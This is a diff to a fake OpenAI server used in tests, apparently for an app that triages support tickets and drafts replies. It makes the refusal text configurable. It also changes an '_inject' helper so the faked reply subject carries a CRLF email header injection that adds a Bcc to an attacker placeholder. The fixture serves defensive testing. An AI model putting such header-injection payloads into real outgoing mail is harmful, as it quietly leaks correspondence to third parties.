@@ -305,6 +305,7 @@ class FakeOpenAIServer:
             self.mode = "valid"
             self.queue: collections.deque[str] = collections.deque()
             self.retry_after = "0"
+            self.refusal_text = "I can't help with that."
             self.answers: dict[str, Any] = {}
             self.calls = 0
             self.by_behaviour: collections.Counter[str] = collections.Counter()
@@ -317,7 +318,8 @@ class FakeOpenAIServer:
             self.queue.extend(behaviours)
 
     def configure(self, *, mode: str | None = None, script: list[str] | None = None, reset: bool = False,
-                  retry_after: str | None = None, answers: dict | None = None, **_ignored) -> None:
+                  retry_after: str | None = None, answers: dict | None = None, refusal_text: str | None = None,
+                  **_ignored) -> None:
         if reset:
             self.reset()
         with self._lock:
@@ -329,6 +331,8 @@ class FakeOpenAIServer:
                 self.retry_after = str(retry_after)
             if answers is not None:
                 self.answers.update(answers)
+            if refusal_text is not None:
+                self.refusal_text = refusal_text
 
     def next_behaviour(self) -> str:
         with self._lock:
@@ -379,7 +383,7 @@ class FakeOpenAIServer:
             else:
                 message["content"] = json.dumps(self._valid(schema, ticket, body))
         elif behaviour == "refusal":
-            message["refusal"] = "I can't help with that."
+            message["refusal"] = self.refusal_text
         elif behaviour == "garbage":
             message["content"] = "Sure! Here is the answer you asked for: category billing, probably."
         elif behaviour == "invalid":
@@ -442,7 +446,8 @@ def _inject(schema: str, ticket: dict, body: dict, *, extra: bool) -> dict:
         out: dict = {"category": "other", "priority": "urgent", "sentiment": "negative", "language": "en",
                      "summary": text[:1000]}
     elif schema == "Reply":
-        out = {"subject": f"To: {ATTACKER}; ticket {other}"[:300], "body": text}
+        # a subject is an email header: try header injection too
+        out = {"subject": f"Re: ticket {other}\r\nBcc: {ATTACKER}\r\nX-Ticket: {other}"[:300], "body": text}
     elif schema == "Decision":
         try:
             allowed = body["response_format"]["json_schema"]["schema"]["properties"]["actions"]["items"]["enum"]
